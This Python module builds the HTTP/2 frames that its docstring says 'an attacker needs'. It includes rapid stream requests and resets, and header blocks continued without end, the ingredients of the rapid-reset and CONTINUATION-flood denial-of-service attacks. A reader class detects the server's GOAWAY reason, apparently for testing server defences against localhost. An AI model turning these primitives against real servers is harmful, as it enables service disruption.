"""As much of HTTP/2 as an attacker needs (RFC 9113 section 4.1): frames written, GOAWAY read."""
import select
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
          "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
# GET http://localhost/ by indexes of the static table (RFC 7541 appendix A), the authority as a literal.
BLOCK = b"\x82\x86\x84\x41\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings():
    return frame(SETTINGS, 0, 0)


def request(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, BLOCK)


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def window(stream, more):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", more))


def headers_without_end(stream):
    """A field section that begins on the first stream and never ends."""
    return frame(HEADERS, END_STREAM, 1, BLOCK) if stream == 1 else frame(CONTINUATION, 0, 1)


class Reader:
    """Reads what is there without waiting, and looks for a GOAWAY."""

    def __init__(self, connection):
        self.connection, self.received = connection, b""

    def goaway(self):
        """The reason's name, or None. Raises OSError when the connection has ended."""
        while select.select([self.connection], [], [], 0)[0]:
            data = self.connection.recv(65536)
            if not data:
                raise ConnectionResetError("ended")
            self.received += data
            while len(self.received) >= 9:
                length = int.from_bytes(self.received[:3], "big")
                if len(self.received) < 9 + length:
                    break
                kind, payload = self.received[3], self.received[9:9 + length]
                self.received = self.received[9 + length:]
                if kind == GOAWAY:
                    code = struct.unpack(">I", payload[4:8])[0]
                    return ERRORS[code] if code < len(ERRORS) else str(code)
        return None
